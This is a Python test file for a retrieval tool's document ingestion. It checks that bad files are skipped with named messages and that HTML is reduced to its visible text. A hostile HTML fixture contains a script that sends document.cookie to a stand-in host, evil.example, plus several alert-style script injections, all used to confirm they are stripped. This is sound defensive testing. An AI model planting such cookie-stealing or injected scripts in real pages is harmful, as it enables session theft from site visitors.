"""Bad documents beside a good one: each is skipped with a message naming the file, the good one is
indexed. HTML keeps its visible text and loses its scripts, styles and hidden parts.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from rag.config import Settings
from rag.errors import DocumentError, NoDocumentsError
from rag.index.indexer import update_index
from rag.index.ingest import discover, load_documents, read_document
from tests.conftest import ARTICLE, TINY_TEXT, FakeEmbedder

LIMIT = Settings().max_document_bytes

HOSTILE_HTML = """<!doctype html><html><head><title>Head title</title>
<style>body { color: red } .secret { display: none }</style>
<script>document.write("SCRIPTPAYLOAD"); fetch("http://evil.example/?c=" + document.cookie)</script>
</head><body>
<h1>Harbour news</h1>
<p>The lighthouse keeper, Oskar Lind, retired on Friday after thirty years.</p>
<p onclick="alert('CLICKPAYLOAD')">A new keeper starts in May.</p>
<noscript>NOSCRIPTPAYLOAD</noscript><template>TEMPLATEPAYLOAD</template>
<iframe src="javascript:alert('IFRAMEPAYLOAD')">IFRAMEPAYLOAD</iframe>
<svg><script>alert('SVGPAYLOAD')</script></svg>
<p>Text that shows markup: &lt;script&gt;alert(1)&lt;/script&gt;</p>
</body></html>
"""

# name -> (bytes, words the skip message must contain)
BAD_FILES: dict[str, tuple[bytes, str]] = {
    "empty.txt": (b"", "no text"),
    "blank.md": (b" \n\t\r\n  \n", "no text"),
    "latin1.txt": ("Café in Zürich, naïve façade.".encode("latin-1"), "not valid UTF-8"),
    "broken-utf16.txt": (b"\xff\xfe" + "Hi".encode("utf-16-le") + b"\x00\xd8", "not valid UTF-16"),
    "picture.txt": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "binary"),
    "only-script.html": (b"<html><script>alert(1)</script><style>p{}</style></html>", "no text"),
    "notes.pdf": (b"%PDF-1.4 not really a PDF", "cannot be read as a PDF"),
    "letter.docx": (b"PK\x03\x04 not really a Word file", "cannot be read as a Word document"),
}


def _folder_with_bad_files(root: Path) -> Path:
    folder = root / "docs"
    folder.mkdir()
    (folder / "good.txt").write_text(TINY_TEXT, encoding="utf-8")
    for name, (data, _) in BAD_FILES.items():
        (folder / name).write_bytes(data)
    with open(folder / "huge.txt", "wb") as fh:  # sparse: over the limit without writing 20 MB
        fh.truncate(LIMIT + 1)
    (folder / "slides.pptx").write_bytes(b"PK\x03\x04 not a supported type")
    (folder / ".hidden.txt").write_text("A hidden file is not indexed.", encoding="utf-8")
    return folder


@pytest.mark.parametrize("name", list(BAD_FILES))
def test_each_bad_file_is_rejected_naming_the_file(tmp_path: Path, name: str) -> None:
    data, reason = BAD_FILES[name]
    path = tmp_path / name
    path.write_bytes(data)
    with pytest.raises(DocumentError) as caught:
        read_document(path, name, LIMIT)
    assert str(path) in str(caught.value) and reason in str(caught.value)


def test_huge_file_is_rejected_before_it_is_read(tmp_path: Path) -> None:
    path = tmp_path / "huge.txt"
    with open(path, "wb") as fh:
        fh.truncate(LIMIT + 1)
    with pytest.raises(DocumentError, match=r"huge\.txt: 20,000,001 bytes is over the limit of 20,000,000"):
        read_document(path, "huge.txt", LIMIT)


def test_folder_keeps_the_good_file_and_names_every_bad_one(tmp_path: Path) -> None:
    folder = _folder_with_bad_files(tmp_path)
    docs, skipped = load_documents(discover([folder]), LIMIT)
    assert [d.doc_id for d in docs] == ["good.txt"]
    assert sorted(Path(s.path).name for s in skipped) == sorted([*BAD_FILES, "huge.txt"])
    for s in skipped:
        assert s.path in s.reason  # the message names the file


def test_update_index_indexes_only_the_good_file(tmp_path: Path) -> None:
    folder = _folder_with_bad_files(tmp_path)
    settings = Settings(seeds_dir=folder, index_dir=tmp_path / "index")
    result = update_index(settings, FakeEmbedder)
    assert set(result.store.documents) == {"good.txt"}
    assert len(result.skipped) == len(BAD_FILES) + 1
    assert all(c.doc_id == "good.txt" for c in result.store.chunks)


def test_a_folder_of_only_bad_files_says_why_for_each(tmp_path: Path) -> None:
    folder = _folder_with_bad_files(tmp_path)
    (folder / "good.txt").unlink()
    settings = Settings(seeds_dir=folder, index_dir=tmp_path / "index")
    with pytest.raises(NoDocumentsError) as caught:
        update_index(settings, FakeEmbedder)
    for name in [*BAD_FILES, "huge.txt"]:
        assert name in str(caught.value)
    assert not (settings.index_dir / "manifest.json").exists()


def test_html_keeps_visible_text_and_drops_scripts(tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    path.write_text(HOSTILE_HTML, encoding="utf-8")
    settings = Settings(seeds_dir=tmp_path, index_dir=tmp_path / "index")
    store = update_index(settings, FakeEmbedder).store
    text = store.documents["page.html"].text
    assert "Oskar Lind, retired on Friday" in text and "A new keeper starts in May." in text
    for hidden in ("PAYLOAD", "document.cookie", "color: red", "Head title", "onclick", "javascript:"):
        assert hidden not in text
    # markup written as text stays text (escaped again wherever it is shown)
    assert "<script>alert(1)</script>" in text
    for chunk in store.chunks:
        assert text[chunk.start : chunk.end] == chunk.text


@pytest.mark.slow
def test_rag_index_folder_warns_about_each_bad_file_and_indexes_the_good_one(tmp_path: Path) -> None:
    folder = _folder_with_bad_files(tmp_path)
    (folder / "good.txt").unlink()
    shutil.copy(ARTICLE, folder / ARTICLE.name)
    (folder / "page.html").write_text(HOSTILE_HTML, encoding="utf-8")
    env = {k: v for k, v in os.environ.items() if not k.startswith("RAG_")}
    env["RAG_INDEX_DIR"] = str(tmp_path / "index")
    rag = str(Path(sys.executable).parent / "rag")

    done = subprocess.run([rag, "index", str(folder)], env=env, capture_output=True, text=True, timeout=300)

    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    assert "indexed 2 documents" in done.stdout
    warnings = [line for line in done.stderr.splitlines() if line.startswith("warning: skipped")]
    assert len(warnings) == len(BAD_FILES) + 1
    for name in [*BAD_FILES, "huge.txt"]:
        assert sum(str(folder / name) in line for line in warnings) == 1, name
    for name in ("slides.pptx", ".hidden.txt", ARTICLE.name, "page.html"):
        assert name not in "\n".join(warnings)


def test_deeply_nested_html_is_read_in_one_pass(tmp_path: Path) -> None:
    # 100,000 nested elements (1.1 MB): a tree-editing extractor took many minutes on this page
    depth = 100_000
    path = tmp_path / "deep.html"
    path.write_text("<div>" * depth + "<p>Deep inside.</p>" + "</div>" * depth, encoding="utf-8")
    assert read_document(path, "deep.html", LIMIT).text == "Deep inside."


@pytest.mark.parametrize(
    "html, text",
    [
        ("<p>Kept.</p><a href='<script>alert(1)</script>", "Kept."),  # unfinished tag at the end
        ("<p>Kept.</p><!-- <script>alert(1)</script>", "Kept."),  # unfinished comment at the end
        ("<p>Kept.</p><![foo bar]><p>Also kept.</p>", "Kept.\nAlso kept."),  # a parser used to reject this
    ],
)
def test_malformed_html_shows_no_markup(tmp_path: Path, html: str, text: str) -> None:
    path = tmp_path / "page.html"
    path.write_text(html, encoding="utf-8")
    assert read_document(path, "page.html", LIMIT).text == text
